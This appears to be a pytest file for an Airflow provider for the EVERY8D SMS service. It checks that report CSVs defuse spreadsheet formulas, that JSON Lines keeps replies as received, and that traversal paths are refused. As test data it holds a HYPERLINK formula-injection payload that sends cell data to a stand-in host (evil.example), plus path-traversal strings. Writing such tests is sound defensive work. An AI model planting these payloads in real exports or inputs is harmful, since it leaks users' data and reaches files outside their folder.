"""A reply or a name written to run as a spreadsheet formula lands in the report CSV as text; numbers and
phone columns stay usable; JSON Lines keeps what was received; a path climbing out of its folder is
refused before anything is asked of EVERY8D."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_every8d.emulator import Every8dEmulator
from airflow_provider_every8d.operators.every8d import Every8dDeliveryReportOperator, Every8dSendSmsOperator
from airflow_provider_every8d.protocol.errors import Every8dValidationError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _report(batch_ids: Any, path: Path, fmt: str = "csv") -> dict[str, Any]:
    return Every8dDeliveryReportOperator(task_id="report", batch_ids=batch_ids, path=str(path), format=fmt,
                                         include_replies=True).execute({})  # type: ignore[arg-type]


@pytest.mark.every8d(delivery_seconds=0)
def test_formulas_in_replies_and_names_are_neutralised_in_csv(every8d_emulator: Every8dEmulator, tmp_path: Path
                                                               ) -> None:
    sent = Every8dSendSmsOperator(task_id="send", message="hi", recipients="0900000001").execute({})
    [batch_id] = sent["batch_ids"]
    every8d_emulator.inject_reply(batch_id, "0900000001", FORMULA, name="@SUM(1+1)")
    result = _report(batch_id, tmp_path / "day.csv")
    with open(result["replies_path"], newline="", encoding="utf-8") as stream:
        [reply] = list(csv.DictReader(stream))
    assert (reply["content"], reply["name"]) == ("'" + FORMULA, "'@SUM(1+1)")
    with open(result["path"], newline="", encoding="utf-8") as stream:
        [row] = list(csv.DictReader(stream))
    assert (row["mobile"], row["status"], float(row["cost"])) == ("+886900000001", "100", 1.0)


@pytest.mark.every8d(delivery_seconds=0)
def test_json_lines_keep_the_reply_as_received(every8d_emulator: Every8dEmulator, tmp_path: Path) -> None:
    sent = Every8dSendSmsOperator(task_id="send", message="hi", recipients="0900000001").execute({})
    [batch_id] = sent["batch_ids"]
    every8d_emulator.inject_reply(batch_id, "0900000001", FORMULA, name="@SUM(1+1)")
    result = _report(batch_id, tmp_path / "day.jsonl", "jsonl")
    [reply] = [json.loads(line) for line in Path(result["replies_path"]).read_text(encoding="utf-8").splitlines()]
    assert (reply["content"], reply["name"]) == (FORMULA, "@SUM(1+1)")


@pytest.mark.parametrize("path", ["../escape.csv", "reports/../../etc/x.csv", "file:///tmp/a/%2e%2e/x.csv",
                                  "reports\\..\\x.csv"])
def test_a_path_with_a_parent_segment_is_refused_before_any_request(
    every8d_emulator: Every8dEmulator, tmp_path: Path, path: str
) -> None:
    operator = Every8dDeliveryReportOperator(task_id="report", batch_ids=["2d0c7b4e-0000-4000-8000-000000000001"],
                                             path=path)
    with pytest.raises(Every8dValidationError, match=r"^path: .*'\.\.' segment"):
        operator.execute({})  # type: ignore[arg-type]
    assert every8d_emulator.requests == []
